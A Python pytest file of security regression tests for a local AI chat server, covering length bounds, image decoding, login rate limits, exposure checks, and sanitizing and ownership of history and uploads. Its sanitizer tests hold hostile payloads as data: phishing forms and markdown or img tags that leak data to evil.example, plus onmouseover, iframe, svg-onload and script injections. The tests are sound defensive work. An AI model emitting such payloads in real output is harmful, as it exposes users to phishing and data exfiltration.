"""The hardening of issue 12, one test per hole (each fails on the code before its fix).

Fast: the engine's text bound, the image decoder, the login limiter, the sanitizer, and the
whole server stack (app.build_server: API, page, middlewares) through Starlette's TestClient
with a FakeChatModel. Slow: ``app.py`` itself refusing an exposed start, and a 50 MB message
against a real server with a tiny random model.
"""

from __future__ import annotations

import base64
import io
import json
import subprocess
import sys
import threading
import time
import tracemalloc
from functools import partial
from pathlib import Path
from types import SimpleNamespace

import numpy as np
import pytest
from fastapi.testclient import TestClient
from PIL import Image

from assistant import limits, media
from assistant.conversation import Message
from assistant.core import Assistant
from assistant.errors import InvalidParams
from assistant.settings import MB, Settings
from assistant.store import LOCAL_OWNER, HistoryStore
from tests.fakes import FakeChatModel
from ui import render, sidebar
from ui.session import ChatSession, as_owner
from web import exposure_problem
from web.logins import Logins, TooManyAttempts

ROOT = Path(__file__).resolve().parent.parent
KEY = "test-key"


class CountingModel(FakeChatModel):
    """Remembers the length of every text it was asked to tokenize."""

    def __init__(self, **kw):
        super().__init__(**kw)
        self.counted: list[int] = []

    def count_tokens(self, message):
        self.counted.append(len(message.text))
        return super().count_tokens(message)


class Tokenizer:
    def __init__(self, longest: int):
        self.vocab = {"a": 0, "b" * longest: 1}
        self.backend_tokenizer = SimpleNamespace(normalizer=None)

    def get_vocab(self):
        return self.vocab


# --------------------------------------------------------------------------- 1. unbounded text


def test_text_that_cannot_fit_is_refused_before_it_is_tokenized():
    model = CountingModel(context_length=4096)
    assistant = Assistant(Settings(), model)
    huge = "a" * (50 * MB)  # one "word" to the fake tokenizer: only a length bound catches it
    started = time.perf_counter()
    with pytest.raises(InvalidParams, match="too long for the model: 52,428,800 characters"):
        assistant.reply([], Message.user(huge)).wait()
    assert time.perf_counter() - started < 1.0
    assert model.counted == [] and model.requests == []  # nothing tokenized, nothing generated


def test_history_that_cannot_fit_is_dropped_without_being_tokenized():
    model = CountingModel(context_length=4096)
    assistant = Assistant(Settings(), model)
    history = [
        Message("user", "b" * (10 * MB)),
        Message("assistant", "old answer"),
        Message("user", "recent question"),
        Message("assistant", "recent answer"),
    ]
    reply = assistant.reply(history, Message.user("and now?")).wait()
    assert reply.text == "Hello, world!"
    assert max(model.counted) < 10_000  # the 10 MB message was never counted
    sent = [m.text for m in model.requests[0].messages if m.role != "system"]
    assert sent == ["recent question", "recent answer", "and now?"]


def test_the_bound_comes_from_the_longest_token_of_the_vocabulary():
    model = FakeChatModel(context_length=1000)
    model.tokenizer = Tokenizer(longest=7)
    assert limits.max_chars_per_token(model) == 7
    model.tokenizer.backend_tokenizer.normalizer = object()  # NFC may merge 3 code points into 1
    assert limits.max_chars_per_token(FakeChatModel()) == limits.FALLBACK_CHARS_PER_TOKEN
    fits = Message.user("x" * (7 * 900))  # 900 tokens at least: fits 1000 - 64
    limits.within_context(model, [], fits, "", 64)  # cached bound 7 for this model
    with pytest.raises(InvalidParams):
        limits.within_context(model, [], Message.user("x" * (7 * 937 + 1)), "", 64)


def test_a_lone_surrogate_is_refused_by_the_engine():
    assistant = Assistant(Settings(), FakeChatModel())
    with pytest.raises(InvalidParams, match="lone surrogate"):
        assistant.reply([], Message.user("hi \ud800")).wait()
    with pytest.raises(InvalidParams, match="lone surrogate"):
        assistant.reply([], Message.user("hi"), system_prompt="\udfff", literal_system=True).wait()


# --------------------------------------------------------------------------- the server stack


def server_client(tmp_path, model=None, **settings) -> tuple[TestClient, HistoryStore, Settings]:
    from app import build_server

    settings.setdefault("data_dir", tmp_path / "data")
    s = Settings(**settings)
    server, _ = build_server(Assistant(s, model or FakeChatModel()), s)
    return TestClient(server, base_url="http://127.0.0.1"), HistoryStore(s.data_dir), s


def chunked(total: int, piece: int = 1024 * 1024):
    sent = 0
    while sent < total:
        yield b" " * piece
        sent += piece


def test_a_chunked_body_over_the_cap_is_cut_off_with_413(tmp_path):
    client, _, _ = server_client(
        tmp_path,
        api_key=KEY,
        max_image_bytes=MB,
        max_audio_bytes=MB,
        max_video_bytes=MB,
        max_document_bytes=MB,
    )
    auth = {"Authorization": f"Bearer {KEY}", "Content-Type": "application/json"}
    r = client.post("/v1/chat/completions", content=chunked(40 * MB), headers=auth)  # no Content-Length
    assert r.status_code == 413 and r.json()["error"]["code"] == "request_too_large"
    page = client.post("/gradio_api/queue/join", content=chunked(40 * MB))
    assert page.status_code == 413
    ok = {"model": "fake", "messages": [{"role": "user", "content": "hi"}]}
    assert client.post("/v1/chat/completions", json=ok, headers=auth).status_code == 200


def test_a_50_mb_message_through_the_api_is_refused_at_once(tmp_path):
    model = CountingModel()
    client, _, _ = server_client(tmp_path, model=model, api_key=KEY)
    body = {"model": "fake", "messages": [{"role": "user", "content": "a" * (50 * MB)}]}
    started = time.perf_counter()
    r = client.post("/v1/chat/completions", json=body, headers={"Authorization": f"Bearer {KEY}"})
    assert r.status_code == 400 and "too long for the model" in r.json()["error"]["message"]
    assert time.perf_counter() - started < 5  # JSON encoding in the test itself included
    assert model.counted == []


# --------------------------------------------------------------------------- 2. image decoding


def png16(side: int) -> bytes:
    ramp = (np.arange(side, dtype=np.uint32) * 65535 // (side - 1)).astype(np.uint16)
    buffer = io.BytesIO()
    Image.fromarray(np.broadcast_to(ramp, (side, side)).copy()).save(buffer, "PNG")
    return buffer.getvalue()


def test_a_16_bit_image_is_converted_without_float64_copies():
    side = 3000
    data = png16(side)
    tracemalloc.start()
    try:
        img = media.load_image(data, max_bytes=None, max_side=1024)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak / side**2 < 6  # bytes per pixel held by Python/numpy (float64 copies: 17)
    assert img.mode == "RGB" and img.size == (1024, 1024)
    row = np.asarray(img)[0, :, 0]
    assert row[0] == 0 and row[-1] >= 250 and np.all(np.diff(row.astype(int)) >= 0)  # scaled, not clipped


def test_decodes_share_a_pixel_budget():
    budget = media.DecodeBudget(100)
    inside, most = 0, 0
    lock = threading.Lock()

    def decode(pixels):
        nonlocal inside, most
        with budget.slot(pixels):
            with lock:
                inside += 1
                most = max(most, inside)
            time.sleep(0.05)
            with lock:
                inside -= 1

    threads = [threading.Thread(target=decode, args=(60,)) for _ in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(5)
    assert most == 1  # two 60-pixel decodes never overlap under a 100-pixel budget
    with budget.slot(1000):  # one larger than the budget still runs alone
        pass
    assert budget.in_flight == 0


# --------------------------------------------------------------------------- 3. logins cover everything


def basic(user, password):
    return {"Authorization": "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode()}


def test_the_api_asks_for_the_page_logins(tmp_path):
    client, _, _ = server_client(tmp_path, auth=(("ann", "secret"),))
    body = {"model": "fake", "messages": [{"role": "user", "content": "hi"}]}
    anonymous = client.post("/v1/chat/completions", json=body)
    assert anonymous.status_code == 401 and anonymous.headers["www-authenticate"].startswith("Basic")
    assert client.get("/v1/models").status_code == 401
    assert client.post("/v1/chat/completions", json=body, headers=basic("ann", "secret")).status_code == 200
    assert client.get("/v1/models", headers=basic("ann", "wrong")).status_code == 401


def test_docs_and_schema_need_the_same_credentials(tmp_path):
    client, _, _ = server_client(tmp_path, api_key=KEY)
    assert client.get("/v1/docs").status_code == 401
    assert client.get("/v1/openapi.json").status_code == 401
    keyed = {"Authorization": f"Bearer {KEY}"}
    assert "/v1/chat/completions" in client.get("/v1/openapi.json", headers=keyed).json()["paths"]
    assert "swagger" in client.get("/v1/docs", headers=keyed).text.lower()


def test_wrong_passwords_are_rate_limited_per_client_and_user():
    now = [0.0]
    logins = Logins([("ann", "secret"), ("bob", "pw")], clock=lambda: now[0])
    for _ in range(5):
        assert not logins.check("1.2.3.4", "ann", "guess")
    with pytest.raises(TooManyAttempts) as waited:
        logins.check("1.2.3.4", "ann", "secret")  # even the right password waits
    assert 0 < waited.value.retry_after_s <= 15 * 60
    assert logins.check("5.6.7.8", "ann", "secret")  # another client is not locked out
    assert logins.check("1.2.3.4", "bob", "pw")  # nor another user from this client
    now[0] += 15 * 60 + 1
    assert logins.check("1.2.3.4", "ann", "secret")
    for user in (f"u{i}" for i in range(20)):  # one password tried on many names
        logins.check("9.9.9.9", user, "123456")
    with pytest.raises(TooManyAttempts):
        logins.check("9.9.9.9", "ann", "secret")


def test_the_page_login_form_is_rate_limited_and_basic_auth_shares_it(tmp_path):
    client, _, _ = server_client(tmp_path, auth=(("ann", "secret"),))
    for _ in range(5):
        assert client.post("/login", data={"username": "ann", "password": "nope"}).status_code == 400
    limited = client.post("/login", data={"username": "ann", "password": "secret"})
    assert limited.status_code == 429 and int(limited.headers["retry-after"]) > 0
    assert client.get("/v1/models", headers=basic("ann", "secret")).status_code == 429


def test_a_session_expires_and_logout_stays_on_this_server(tmp_path):
    client, _, _ = server_client(tmp_path, auth=(("ann", "secret"),), session_hours=1.5 / 3600)
    login = client.post("/login", data={"username": "ann", "password": "secret"})
    assert login.status_code == 200
    assert all("Max-Age=1" in c for c in login.headers.get_list("set-cookie"))
    assert client.get("/config").status_code == 200
    time.sleep(2.0)
    assert client.get("/config").status_code == 401  # logged out by age
    client.post("/login", data={"username": "ann", "password": "secret"})
    out = client.get("/logout", headers={"X-Forwarded-Host": "evil.example"}, follow_redirects=False)
    assert out.status_code == 302 and out.headers["location"] == "/"


@pytest.mark.parametrize(
    ("host", "auth", "share", "allow", "refused"),
    [
        ("127.0.0.1", (), False, False, False),
        ("localhost", (), False, False, False),
        ("::1", (), False, False, False),
        ("0.0.0.0", (), False, False, True),
        ("192.168.1.5", (), False, False, True),
        ("my-host", (), False, False, True),
        ("0.0.0.0", (("a", "b"),), False, False, False),
        ("0.0.0.0", (), False, True, False),
        ("127.0.0.1", (), True, False, True),
    ],
)
def test_an_exposed_address_needs_logins_or_an_explicit_flag(host, auth, share, allow, refused):
    settings = Settings(host=host, auth=auth, share=share, allow_unauthenticated=allow)
    assert (exposure_problem(settings) is not None) == refused


def test_app_refuses_to_serve_the_network_without_logins():
    started = subprocess.run(
        [sys.executable, str(ROOT / "app.py"), "--host", "0.0.0.0", "--model", "/nonexistent"],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert started.returncode == 2
    assert started.stderr.startswith("error: --host 0.0.0.0") and "--auth" in started.stderr
    assert "--allow-unauthenticated" in started.stderr


# --------------------------------------------------------------------------- 4. hostile HTML


@pytest.mark.parametrize(
    ("shown", "gone"),
    [
        ('<form action="https://evil.example/x"><input type=password name=pw></form>', "<form"),
        ('<input type="password" name="pw">', "<input"),
        ('<div style="position:fixed;inset:0;z-index:9999">Log in again</div>', "<div"),
        ('<img src="https://evil.example/leak?d=secret">', "<img"),
        ('<video src="https://evil.example/v.mp4" autoplay>', "<video"),
        ('<audio src="https://evil.example/a.mp3" autoplay>', "<audio"),
        ("![x](https://evil.example/leak?d=secret)", "!["),
        ("![x][ref]\n\n[ref]: https://evil.example/leak.png", "!["),
        ("<b onmouseover=alert(1)>hi</b>", "<b "),
        ("<iframe src=https://evil.example></iframe>", "<iframe"),
    ],
)
def test_the_chat_shows_hostile_markup_as_text(shown, gone):
    for message in (Message.assistant(f"Sure! {shown}"), Message.user(shown)):
        content = render.bubble(message)["content"]
        text = content if isinstance(content, str) else content[-1]
        assert gone not in text
    assert gone not in render.chat([], Message.user("hi"), shown)[-1]["content"]  # while streaming


def test_safe_markdown_keeps_formatting_code_and_our_own_images():
    text = (
        "Some **bold** <b>b</b> <sub>2</sub> and a link <https://example.com>.\n\n"
        "```html\n<form action=x><input></form>\n```\n"
        "Inline `<img src=https://x>` code. ![ours](/gradio_api/file=/data/media/a/b.png) "
        "![inline](data:image/png;base64,iVBORw0KGgo=)"
    )
    assert render.safe_markdown(text) == text
    assert render.safe_markdown("a < b") == "a &lt; b"
    assert (
        render.safe_markdown("![x](/gradio_api/file=/../../logout)") == "[x](/gradio_api/file=/../../logout)"
    )


def test_editing_a_bubble_gives_back_what_was_typed():
    messages = [Message.user("is 1 <2 and <div>?"), Message.assistant("yes")]
    shown = render.user_text(messages[0])
    assert "<div" not in shown
    _, edited = render.edited(messages, 0, shown.replace("yes", "no") + " really")
    assert edited.text == "is 1 <2 and <div>? really"


def test_the_page_is_served_with_a_policy_that_backs_the_sanitizer_up(tmp_path):
    client, _, _ = server_client(tmp_path)
    page = client.get("/")
    policy = page.headers["content-security-policy"]
    nonce = policy.split("'nonce-")[1].split("'")[0]
    for directive in (
        "img-src 'self' data: blob:",
        "media-src 'self' data: blob:",
        "form-action 'self'",
        "frame-ancestors 'none'",
        "object-src 'none'",
    ):
        assert directive in policy
    assert "unsafe-inline" not in policy.split("script-src")[1].split(";")[0]
    assert page.text.count("<script") == page.text.count(f'<script nonce="{nonce}"') > 0
    assert page.headers["x-frame-options"] == "DENY" and page.headers["referrer-policy"] == "no-referrer"
    assert page.headers["x-content-type-options"] == "nosniff"
    assert client.get("/").headers["content-security-policy"] != policy  # a fresh nonce each time


# --------------------------------------------------------------------------- 5. history owner


def test_a_tab_that_never_loaded_acts_as_its_logged_in_user(tmp_path):
    store = HistoryStore(tmp_path / "data")
    local_id, _ = store.save(None, [Message.user("before --auth"), Message.assistant("ok")], LOCAL_OWNER)
    tab = ChatSession()  # the load event never ran: owner still 'local'
    bob = SimpleNamespace(username="bob")
    listed = as_owner(partial(sidebar.history_update, store))(bob, tab)
    assert listed.choices == []
    opened = as_owner(partial(sidebar.open_conversation, store))(bob, tab, local_id)
    assert tab.owner == "bob" and opened[0] != render.chat(store.load(local_id).messages)
    assert tab.messages == []


def test_every_page_handler_that_touches_the_store_takes_the_request(tmp_path):
    import inspect

    import gradio as gr

    from ui import build_ui

    store = HistoryStore(tmp_path / "data")
    demo = build_ui(Assistant(Settings(), FakeChatModel()), Settings(), store)

    def uses_store(fn) -> bool:
        seen, todo = set(), [fn]
        while todo:
            f = todo.pop()
            if id(f) in seen:
                continue
            seen.add(id(f))
            if f is store:
                return True
            if isinstance(f, partial):
                todo += [f.func, *f.args]
            for cell in getattr(f, "__closure__", None) or ():
                todo.append(cell.cell_contents)
        return False

    touching = [f.fn for f in demo.fns.values() if f.fn is not None and uses_store(f.fn)]
    assert len(touching) >= 7  # answer, undo, new chat, open, rename, delete, load
    for fn in touching:
        first = next(iter(inspect.signature(fn).parameters.values()))
        assert first.annotation in ("gr.Request", gr.Request), fn


def test_photos_are_served_only_to_their_owner_with_a_type_from_their_content(tmp_path):
    client, store, _ = server_client(tmp_path, auth=(("ann", "a"), ("bob", "b")))
    gif = tmp_path / "cat.svg"  # a GIF with a lying name
    Image.new("RGB", (8, 8), (200, 10, 10)).save(gif, "GIF")
    conversation, saved = store.save(
        None, [Message.user("look", [str(gif)]), Message.assistant("a cat")], "ann"
    )
    kept = Path(str(saved[0].images[0]))
    assert kept.suffix == ".gif"  # named by content
    lying = kept.with_name("old.svg")  # a copy saved before this fix, named by the upload
    lying.write_bytes(kept.read_bytes())
    url = f"/gradio_api/file={lying}"
    assert client.get(url).status_code in (401, 403, 404)  # not logged in
    client.post("/login", data={"username": "bob", "password": "b"})
    assert client.get(url).status_code == 404  # bob cannot see ann's photo
    client.cookies.clear()
    client.post("/login", data={"username": "ann", "password": "a"})
    mine = client.get(url)
    assert mine.status_code == 200 and mine.headers["content-type"] == "image/gif"
    assert mine.headers["x-content-type-options"] == "nosniff"


# --------------------------------------------------------------------------- 6. smaller ones


@pytest.mark.parametrize(
    "body",
    [
        '{"model":"fake","messages":[{"role":"user","content":"hi \\ud800"}]}',
        '{"model":"fake\\ud800","messages":[{"role":"user","content":"hi"}]}',
        '{"model":"fake","messages":[{"role":"system","content":"\\ud800"},{"role":"user","content":"hi"}]}',
        '{"model":"fake","messages":[{"role":"user","content":[{"type":"text","text":"\\udfff"}]}]}',
    ],
)
def test_a_lone_surrogate_is_a_400_in_openai_shape(tmp_path, body):
    client, _, _ = server_client(tmp_path)
    r = client.post("/v1/chat/completions", content=body, headers={"Content-Type": "application/json"})
    assert r.status_code == 400 and "surrogate" in r.json()["error"]["message"]


def test_models_are_named_not_located(tmp_path):
    model_dir = tmp_path / "models" / "my-vlm"
    model_dir.mkdir(parents=True)
    model = FakeChatModel()
    model.info = model.info.__class__(str(model_dir), "local", "cpu", "none", 4096)
    client, _, _ = server_client(tmp_path, model=model)
    listed = client.get("/v1/models").json()["data"]
    assert listed[0]["id"] == "my-vlm" and str(tmp_path) not in json.dumps(listed)
    for name in ("my-vlm", str(model_dir)):  # the old id keeps working for existing clients
        body = {"model": name, "messages": [{"role": "user", "content": "hi"}]}
        r = client.post("/v1/chat/completions", json=body)
        assert r.status_code == 200 and r.json()["model"] == "my-vlm"


def test_uploads_are_limited_to_photos_and_recordings(tmp_path):
    client, _, _ = server_client(tmp_path)
    page = client.post(
        "/gradio_api/upload", files={"files": ("evil.html", b"<script>alert(1)</script>", "text/html")}
    )
    assert page.status_code == 415 and "evil.html" in page.json()["detail"]
    buffer = io.BytesIO()
    Image.new("RGB", (4, 4)).save(buffer, "PNG")
    ok = client.post("/gradio_api/upload", files={"files": ("photo.png", buffer.getvalue(), "image/png")})
    assert ok.status_code == 200 and Path(ok.json()[0]).exists()


def test_an_upload_is_readable_only_by_whoever_uploaded_it(tmp_path):
    client, _, _ = server_client(tmp_path, auth=(("ann", "a"), ("bob", "b")))
    buffer = io.BytesIO()
    Image.new("RGB", (4, 4), (1, 2, 3)).save(buffer, "PNG")
    client.post("/login", data={"username": "ann", "password": "a"})
    uploaded = client.post(
        "/gradio_api/upload", files={"files": ("mine.png", buffer.getvalue(), "image/png")}
    )
    url = f"/gradio_api/file={uploaded.json()[0]}"
    assert client.get(url).status_code == 200
    client.cookies.clear()
    client.post("/login", data={"username": "bob", "password": "b"})
    assert client.get(url).status_code == 404


def test_media_types_come_from_content():
    gif = io.BytesIO()
    Image.new("RGB", (2, 2)).save(gif, "GIF")
    assert media.content_type(gif.getvalue()) == "image/gif" and media.suffix_for(gif.getvalue()) == ".gif"
    assert media.content_type(b"<svg onload=alert(1)>") == "application/octet-stream"


# --------------------------------------------------------------------------- a real server


@pytest.mark.slow
def test_a_50_mb_message_is_refused_in_a_second_while_health_checks_answer():
    from bench.security import measure_text

    figures = measure_text(50)
    assert figures["status"] == 400
    # Generous bounds (0.3 s on a quiet machine; tokenizing it took minutes): others may load it.
    assert figures["answer_s"] < 5.0
    assert figures["slowest_health_check_s"] is not None and figures["slowest_health_check_s"] < 5.0
    assert figures["rss_peak_growth_mb"] < 400  # was 11.7 GB
